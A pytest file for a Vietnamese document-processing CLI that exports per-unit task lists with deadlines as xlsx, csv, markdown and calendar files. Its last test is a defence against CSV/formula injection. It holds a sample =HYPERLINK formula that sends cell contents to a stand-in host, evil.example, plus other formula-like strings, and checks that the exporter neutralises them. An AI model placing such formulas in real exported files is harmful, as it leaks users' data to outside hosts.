"""Task lists per unit: `congvan export --unit … --format xlsx|csv|md|ics` on real ingested PDFs."""
from __future__ import annotations

import csv
from datetime import date, datetime

import pytest
import sqlite_utils
from click.testing import CliRunner

from congvan.cli import main
from congvan.db import export
from tests.conftest import DUE_SOON_DAYS, due_soon_date

TODAY = date(2021, 7, 10)
SNV_ACTION_1 = "Xây dựng, đề xuất giải pháp nâng cao Chỉ số CCHC tỉnh năm 2021, gửi về Sở Nội vụ trước ngày 17/7/2021"
SNV_ACTION_2 = "Xây dựng Kế hoạch cải thiện Chỉ số CCHC năm 2021, trình UBND tỉnh trước ngày 30/7/2021"


@pytest.fixture
def db(tasks_db):
    database = sqlite_utils.Database(tasks_db)
    yield database
    database.close()


@pytest.mark.parametrize("typed", ["Sở Nội vụ", "so noi vu", "SNV", "Sở NV", "  sở   nội vụ "])
def test_unit_names_resolve_through_aliases_and_folding(db, typed):
    assert export.resolve_unit(db, typed) == "Sở Nội vụ"


def test_khtcth_resolves_to_its_canonical_name(db):
    assert export.resolve_unit(db, "KHTCTH") == "Phòng Kế hoạch - Tài chính - Tổng hợp"


def test_unknown_unit_lists_close_matches(db):
    with pytest.raises(export.UnknownUnit) as e:
        export.resolve_unit(db, "Sở Nội")
    assert e.value.suggestions[0] == "Sở Nội vụ"
    assert "Có phải: Sở Nội vụ, " in str(e.value)


def test_tasks_of_so_noi_vu_are_dated_first_with_days_left(db):
    tasks = export.tasks_for_unit(db, "Sở Nội vụ", today=TODAY)
    assert [(t.deadline, t.days_left, t.page, t.path) for t in tasks] == [
        (date(2021, 7, 17), 7, 1, "001-digital.pdf"),
        (date(2021, 7, 30), 20, 1, "001-digital.pdf"),
        (None, None, 2, "001-digital.pdf"),
    ]
    assert tasks[0].criteria == ("1", "4", "5")
    assert tasks[0].source == "/UBND-KSTTHC ngày 2021, UBND tỉnh Đắk Lắk"


def test_xlsx_has_vietnamese_headers_frozen_row_filter_and_real_dates(db, tmp_path):
    from openpyxl import load_workbook

    result = export.export_unit(db, "Sở Nội vụ", "xlsx", tmp_path / "snv.xlsx", today=TODAY)
    assert (result.unit, result.tasks) == ("Sở Nội vụ", 3)
    ws = load_workbook(result.path).active
    assert [c.value for c in ws[1]] == list(export.HEADERS)
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:N4"
    assert [ws.cell(row=r, column=1).value for r in (2, 3, 4)] == [
        datetime(2021, 7, 17), datetime(2021, 7, 30), None]
    assert ws.cell(row=2, column=1).is_date is True
    assert ws.cell(row=2, column=1).number_format == "DD/MM/YYYY"
    assert [ws.cell(row=r, column=3).value for r in (2, 3)] == [SNV_ACTION_1, SNV_ACTION_2]
    assert [ws.cell(row=2, column=c).value for c in (2, 5, 7, 8, 10)] == [
        7, "/UBND-KSTTHC", "UBND tỉnh Đắk Lắk", 1, "1, 4, 5"]


def test_csv_is_utf8_with_bom(db, tmp_path):
    path = export.export_unit(db, "Sở Nội vụ", "csv", tmp_path / "snv.csv", today=TODAY).path
    raw = path.read_bytes()
    assert raw[:3] == b"\xef\xbb\xbf"
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0][:3] == ["Hạn", "Còn (ngày)", "Nhiệm vụ"]
    assert [r[0] for r in rows[1:]] == ["2021-07-17", "2021-07-30", ""]
    assert [r[1] for r in rows[1:]] == ["7", "20", ""]


def test_markdown_reads_like_a_message(db):
    tasks = export.tasks_for_unit(db, "Sở Nội vụ", today=TODAY)
    text = export.render_markdown(tasks, unit="Sở Nội vụ", today=TODAY)
    assert text.splitlines()[:4] == ["# Nhiệm vụ của Sở Nội vụ", "", "Tính đến ngày 10/07/2021: 3 nhiệm vụ.", ""]
    assert text.splitlines()[4] == (f"- **17/07/2021** (còn 7 ngày): {SNV_ACTION_1} "
                                    "_(Nguồn: /UBND-KSTTHC ngày 2021, UBND tỉnh Đắk Lắk, trang 1 — tiêu chí 1, 4, 5)_")
    assert text.splitlines()[6].startswith("- **không có hạn**: Đề xuất Chủ tịch UBND tỉnh khen thưởng")


def test_ics_has_one_all_day_event_per_dated_task_with_a_reminder(db, tmp_path):
    from icalendar import Calendar

    path = export.export_unit(db, "Sở Nội vụ", "ics", tmp_path / "snv.ics", today=TODAY).path
    cal = Calendar.from_ical(path.read_bytes())
    events = list(cal.walk("VEVENT"))
    assert [e.decoded("dtstart") for e in events] == [date(2021, 7, 17), date(2021, 7, 30)]
    assert [e.decoded("dtend") for e in events] == [date(2021, 7, 18), date(2021, 7, 31)]
    assert str(events[1]["summary"]) == SNV_ACTION_2
    alarms = [list(e.walk("VALARM")) for e in events]
    assert [len(a) for a in alarms] == [1, 1]
    assert alarms[0][0].decoded("trigger").days == -3
    assert len({str(e["uid"]) for e in events}) == 2


def test_export_all_units_writes_one_file_per_unit(db, tmp_path):
    results = export.export_all(db, "md", tmp_path, today=TODAY)
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "phong-ke-hoach-tai-chinh-tong-hop.md", "so-noi-vu.md", "so-tu-phap.md"]
    assert {r.unit: r.tasks for r in results} == {
        "Phòng Kế hoạch - Tài chính - Tổng hợp": 1, "Sở Nội vụ": 3, "Sở Tư pháp": 1}


def test_cli_export_xlsx_for_so_noi_vu(tasks_db, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "snv.xlsx"
    r = CliRunner().invoke(main, ["export", "--unit", "Sở Nội vụ", "--format", "xlsx", "--out", str(out),
                                  "--db", str(tasks_db)])
    assert r.exit_code == 0, r.output
    assert r.output == f"Đã ghi 3 nhiệm vụ của Sở Nội vụ → {out}\n"
    ws = load_workbook(out).active
    assert [ws.cell(row=i, column=1).value.date().isoformat() for i in (2, 3)] == ["2021-07-17", "2021-07-30"]


def test_cli_export_khtcth_resolves_and_defaults_the_file_name(tasks_db, tmp_path):
    r = CliRunner().invoke(main, ["export", "--unit", "KHTCTH", "--format", "ics", "--db", str(tasks_db),
                                  "--out", str(tmp_path)])
    assert r.exit_code == 0, r.output
    path = tmp_path / "phong-ke-hoach-tai-chinh-tong-hop.ics"
    assert r.output == f"Đã ghi 1 sự kiện lịch cho Phòng Kế hoạch - Tài chính - Tổng hợp → {path} (1 nhiệm vụ)\n"
    from icalendar import Calendar

    events = list(Calendar.from_ical(path.read_bytes()).walk("VEVENT"))
    assert [e.decoded("dtstart") for e in events] == [due_soon_date()]
    assert DUE_SOON_DAYS == 5


def test_cli_unknown_unit_exits_2_with_suggestions(tasks_db, tmp_path):
    r = CliRunner().invoke(main, ["export", "--unit", "So Noi", "--format", "md", "--db", str(tasks_db),
                                  "--out", str(tmp_path / "x.md")])
    assert r.exit_code == 2
    assert 'Không có đơn vị "So Noi". Có phải: Sở Nội vụ, ' in r.output
    assert not (tmp_path / "x.md").exists()


def test_cli_all_units_to_a_folder(tasks_db, tmp_path):
    r = CliRunner().invoke(main, ["export", "--all-units", "--format", "csv", "--out", str(tmp_path / "out"),
                                  "--db", str(tasks_db)])
    assert r.exit_code == 0, r.output
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == [
        "phong-ke-hoach-tai-chinh-tong-hop.csv", "so-noi-vu.csv", "so-tu-phap.csv"]
    assert r.output.splitlines()[-1] == f"3 tệp, 5 nhiệm vụ → {tmp_path / 'out'}"


def test_real_pipeline_rows_give_so_noi_vu_its_two_deadlines(ingested_db, tmp_path):
    """On the rows the real obligations parser wrote for ../shared/corpus/001-digital.pdf."""
    from icalendar import Calendar
    from openpyxl import load_workbook

    real = sqlite_utils.Database(ingested_db)
    if real["obligations"].count == 0:
        pytest.skip("the obligations parser found no task yet")
    runner = CliRunner()
    r = runner.invoke(main, ["export", "--unit", "Sở Nội vụ", "--format", "xlsx", "--db", str(ingested_db),
                             "--out", str(tmp_path / "snv.xlsx")])
    assert r.exit_code == 0, r.output
    ws = load_workbook(tmp_path / "snv.xlsx").active
    dated = [(ws.cell(row=i, column=1).value, ws.cell(row=i, column=12).value) for i in range(2, ws.max_row + 1)
             if ws.cell(row=i, column=1).value]
    assert dated == [(datetime(2021, 7, 17), "001-digital.pdf"), (datetime(2021, 7, 30), "001-digital.pdf")]
    r = runner.invoke(main, ["export", "--unit", "so noi vu", "--format", "ics", "--db", str(ingested_db),
                             "--out", str(tmp_path / "snv.ics")])
    assert r.exit_code == 0, r.output
    events = list(Calendar.from_ical((tmp_path / "snv.ics").read_bytes()).walk("VEVENT"))
    assert [e.decoded("dtstart") for e in events] == [date(2021, 7, 17), date(2021, 7, 30)]


def test_the_same_document_in_several_files_gives_each_task_once(tasks_db, tmp_path):
    from tests.conftest import copy_db

    path = copy_db(tasks_db, tmp_path / "congvan.db")
    db = sqlite_utils.Database(path)
    first = next(db.query("select * from obligations where deadline = '2021-07-30'"))
    other = next(db.query("select id from documents where path = '002-digital.pdf'"))["id"]
    ocr_slip = first["action"].replace("Kế hoạch", "Kê hoach")
    db["obligations"].insert({**first, "id": None, "document_id": other, "action": ocr_slip})
    assert [t.path for t in export.tasks_for_unit(db, "Sở Nội vụ", today=TODAY)] == ["001-digital.pdf"] * 3
    assert [t.path for t in export.tasks_for_unit(db, "Sở Nội vụ", today=TODAY, dedupe=False)] == [
        "001-digital.pdf", "001-digital.pdf", "002-digital.pdf", "001-digital.pdf"]


def test_formula_like_cells_are_neutralised_in_csv_and_xlsx(tasks_db, tmp_path):
    from openpyxl import load_workbook

    from tests.conftest import copy_db

    path = copy_db(tasks_db, tmp_path / "formula.db")
    database = sqlite_utils.Database(path)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"bấm")', "+1+2", "-3+4", "@SUM(A1:A9)"]
    doc = database.execute("select id from documents limit 1").fetchone()[0]
    database["obligations"].insert_all(
        {"document_id": doc, "unit": "Phòng Thử", "action": action, "deadline": f"2021-08-0{i + 1}", "page": 1,
         "deadline_text": "- trước ngày", "criteria": "[]", "recurring": 0} for i, action in enumerate(hostile))
    csv_path = export.export_unit(database, "Phòng Thử", "csv", tmp_path / "t.csv", today=TODAY).path
    xlsx_path = export.export_unit(database, "Phòng Thử", "xlsx", tmp_path / "t.xlsx", today=TODAY).path
    database.close()
    rows = list(csv.reader(csv_path.read_text(encoding="utf-8-sig").splitlines()))[1:]
    assert [(r[2], r[10]) for r in rows] == [("'" + a, "'- trước ngày") for a in hostile]
    ws = load_workbook(xlsx_path).active
    assert [(ws.cell(row=r, column=3).value, ws.cell(row=r, column=3).data_type) for r in range(2, 6)] == [
        ("'" + a, "s") for a in hostile]
    assert [ws.cell(row=r, column=2).value for r in range(2, 6)] == [22, 23, 24, 25]   # numbers stay numbers
